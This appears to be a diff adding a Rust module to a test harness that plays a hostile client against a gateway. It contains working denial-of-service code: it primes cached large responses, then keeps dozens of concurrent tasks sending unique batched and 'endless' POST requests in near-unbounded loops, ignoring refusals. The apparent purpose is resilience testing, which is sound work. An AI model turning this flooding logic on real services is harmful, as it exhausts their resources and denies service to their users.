@@ -1,0 +1,68 @@
+//! Calls that keep the gateway's threads and memory busy.
+
+use std::io;
+
+use tokio::io::AsyncWriteExt;
+use tokio::task::JoinSet;
+use tokio::time::sleep;
+
+use super::replies::{PAUSE, path};
+use super::{Running, calls};
+use crate::hostile::Attacker;
+use crate::http1;
+use crate::run::AttackContext;
+
+const BATCHES: usize = 60;
+const ENDLESS_CALLS: usize = 64;
+
+/// Answers that are asked for so often are kept.
+const KEPT_AFTER: usize = 3;
+
+/// Large replies in each batch.
+const KEPT_ANSWERS: u32 = 4;
+
+pub(super) fn batch_held(context: AttackContext) -> Running {
+    Box::pin(async move {
+        for _ in 0..KEPT_AFTER {
+            for number in 0..KEPT_ANSWERS {
+                // Refused or not, the batches ask for it again.
+                let _refused = ask(&context.attacker, &calls::many_logs(number)).await;
+            }
+        }
+        let logs: Vec<String> = (0..KEPT_ANSWERS).map(calls::many_logs).collect();
+        let batch = move |number| format!("[{},{}]", logs.join(","), calls::endless(number));
+        ask_always(&context.attacker, context.options.scaled(BATCHES), batch).await;
+    })
+}
+
+pub(super) fn endless_calls(context: AttackContext) -> Running {
+    Box::pin(async move {
+        ask_always(&context.attacker, context.options.scaled(ENDLESS_CALLS), calls::endless).await;
+    })
+}
+
+/// Keeps so many requests under way, each different from all others.
+async fn ask_always(
+    attacker: &Attacker,
+    count: usize,
+    body: impl Fn(u32) -> String + Clone + Send + 'static,
+) {
+    let mut callers = JoinSet::new();
+    for place in 0..count as u32 {
+        let (attacker, body) = (attacker.clone(), body.clone());
+        callers.spawn(async move {
+            for round in 0..u32::MAX {
+                // Whatever becomes of it, the next one follows.
+                let _outcome = ask(&attacker, &body(place + round * 1_000)).await;
+                sleep(PAUSE).await;
+            }
+        });
+    }
+    callers.join_all().await;
+}
+
+async fn ask(attacker: &Attacker, body: &str) -> io::Result<()> {
+    let mut connection = attacker.connect().await?;
+    connection.stream.write_all(&http1::post(&path(), "", body.as_bytes())).await?;
+    http1::read_reply(&mut connection.stream).await.map(drop)
+}
